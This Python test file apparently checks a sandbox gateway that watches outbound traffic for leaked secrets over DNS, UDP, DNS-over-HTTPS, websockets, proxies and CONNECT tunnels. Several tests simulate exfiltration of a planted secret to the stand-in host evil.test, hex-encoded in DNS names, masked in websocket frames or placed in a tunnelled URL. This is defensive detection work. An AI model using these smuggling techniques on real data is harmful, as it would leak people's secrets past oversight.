"""The gateway as a whole: names, datagrams, and protocols that begin as HTTP."""

from __future__ import annotations

import asyncio
import base64

import dnslib
import pytest

from sandbox import events
from sandbox.streams import Peer
from tests.gateway_rig import GET, SECRET, World, play, working

world = pytest.fixture(working)


def test_dns_over_tcp(world: World) -> None:
    query = dnslib.DNSRecord.question("over-tcp.test").pack()
    framed = len(query).to_bytes(2, "big") + query
    heard = play(world, "10.0.0.53", 53, framed[:5], framed[5:] + framed, until=b"over-tcp")
    assert dnslib.DNSRecord.parse(heard[2:]).a is not None
    assert [event.name for event in world.seen(events.NameLookedUp)] == ["over-tcp.test"] * 2


def test_not_dns_on_its_port(world: World) -> None:
    play(world, "10.0.0.53", 53, b"\x00\x03abc\x00\x40" + SECRET.encode())
    assert world.seen(events.DataSent)[0].data == b"\x00\x03abc\x00\x40" + SECRET.encode()
    assert len(world.seen(events.DecoySent)) == 1


def test_bait_in_names(world: World) -> None:
    text = SECRET.encode().hex()
    for place in range(0, len(text), 20):
        world.address(f"{text[place:place + 20]}.evil.test")
    (found,) = world.seen(events.DecoySent)
    assert (found.where, found.host, found.encodings) == ("dns", "evil.test", ["hex"])


def test_more_names_than_are_kept(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(world.gateway._names, "_most", 1)
    world.address("one.test")
    query = dnslib.DNSRecord.question("two.test").pack()
    world.gateway.datagram(Peer(connection=0, address="10.0.0.53", port=53), query)
    assert "more names" in world.seen(events.SensorLost)[0].reason


def test_datagrams(world: World) -> None:
    peer = Peer(connection=3, address="203.0.113.5", port=9999, process=4)
    assert world.gateway.datagram(peer, SECRET.encode()) == []
    assert world.gateway.datagram(peer, b"again") == []
    (opened,) = world.seen(events.ConnectionOpened)
    assert (opened.protocol, opened.address, opened.port) == ("udp", "203.0.113.5", 9999)
    assert [event.protocol for event in world.seen(events.DataSent)] == ["udp", "udp"]
    numbers = {event.connection for kind in (events.DataSent, events.DecoySent) for event in world.seen(kind)}
    assert numbers == {opened.connection}  # so that what was sent is known to have gone there
    assert len(world.seen(events.DecoySent)) == 1


def test_time_of_day(world: World) -> None:
    (reply,) = world.gateway.datagram(Peer(connection=0, address="203.0.113.5", port=123), b"\x23" + bytes(47))
    assert len(reply) == 48


def test_a_datagram_that_is_not_dns(world: World) -> None:
    assert world.gateway.datagram(Peer(connection=0, address="10.0.0.53", port=53), b"hello") == []
    assert world.seen(events.DataSent)[0].data == b"hello"


def test_dns_over_https(world: World) -> None:
    query = dnslib.DNSRecord.question("hidden.test").pack()
    kind = b"Content-Type: application/dns-message\r\n"
    post = b"POST /dns-query HTTP/1.1\r\nHost: doh.test\r\n" + kind + b"Content-Length: %d\r\n\r\n"
    play(world, "doh.test", 80, post % len(query) + query, until=b"hidden")
    text = base64.urlsafe_b64encode(query).rstrip(b"=")
    play(world, "doh.test", 80, GET % (b"/dns-query?dns=" + text, b"doh.test", b""), until=b"hidden")
    play(world, "doh.test", 80, GET % (b"/page?dns=none", b"doh.test", b""), until=b"{}")
    names = [event.name for event in world.seen(events.NameLookedUp)]
    assert names.count("hidden.test") == 2


def test_websocket(world: World) -> None:
    async def run() -> None:
        async with world.connect("evil.test", 80) as stream:
            upgrade = b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: a\r\n"
            stream.say(GET % (b"/ws", b"evil.test", upgrade))
            assert (await stream.until(b"\r\n\r\n")).startswith(b"HTTP/1.1 101 ")
            mask = b"\x01\x02\x03\x04"
            masked = bytes(code ^ mask[place % 4] for place, code in enumerate(SECRET.encode()))
            stream.say(bytes((0x81, 128 | len(masked))) + mask + masked + b"\x89\x80" + mask)
            await stream.until(b"\x8a\x00")

    asyncio.run(run())
    (sent,) = world.seen(events.DataSent)
    assert (sent.data, sent.protocol) == (SECRET.encode(), "websocket")
    assert world.seen(events.DecoySent)[0].host == "evil.test"


def test_a_tunnel(world: World) -> None:
    async def run() -> None:
        async with world.connect("proxy.test", 3128) as stream:
            stream.say(b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n")
            assert (await stream.until(b"\r\n\r\n")).startswith(b"HTTP/1.1 200 ")
            stream.say(GET % (b"/" + SECRET.encode(), b"evil.test", b""))
            await stream.until(b"{}")

    asyncio.run(run())
    outer, inner = world.seen(events.RequestSent)
    assert outer.url == "connect://evil.test:80"
    assert inner.url == f"http://evil.test/{SECRET}"
    assert world.seen(events.DecoySent)[0].host == "evil.test"


def test_tunnels_in_tunnels_end(world: World) -> None:
    play(world, "proxy.test", 80, *[b"CONNECT a.test:80 HTTP/1.1\r\nHost: a.test:80\r\n\r\n"] * 6)
    assert len(world.seen(events.RequestSent)) == 4
    assert world.seen(events.DataSent)


def test_a_request_to_a_proxy(world: World) -> None:
    play(world, "proxy.test", 3128, GET % (b"http://api.test/user", b"api.test", b""), until=b"dev")
    assert world.seen(events.RequestSent)[0].url == "http://proxy.test:3128/http://api.test/user"
    assert world.seen(events.EndpointAsked)[0].decoy == "npm"


@pytest.mark.parametrize(
    ("host", "target", "url"),
    [
        ("198.51.100.9", b"http://registry.test/six?d=1", "http://198.51.100.9/http://registry.test/six?d=1"),
        ("198.51.100.9", b"http://registry.test?d=1", "http://198.51.100.9/http://registry.test?d=1"),
        ("registry.test", b"http://u:p@registry.test/six", "http://registry.test/http://u:p@registry.test/six"),
        ("registry.test", b"http://evil.test/in", "http://evil.test/in"),
        ("one.test", b"http://ONE.test:80/x?y", "http://one.test/x?y"),
        ("one.test", b"http://one.test?y", "http://one.test/?y"),
    ],
)
def test_an_absolute_target_does_not_say_where_a_request_went(
    world: World, host: str, target: bytes, url: str
) -> None:
    play(world, host, 80, GET % (target, b"registry.test", b""))
    assert world.seen(events.RequestSent)[0].url == url
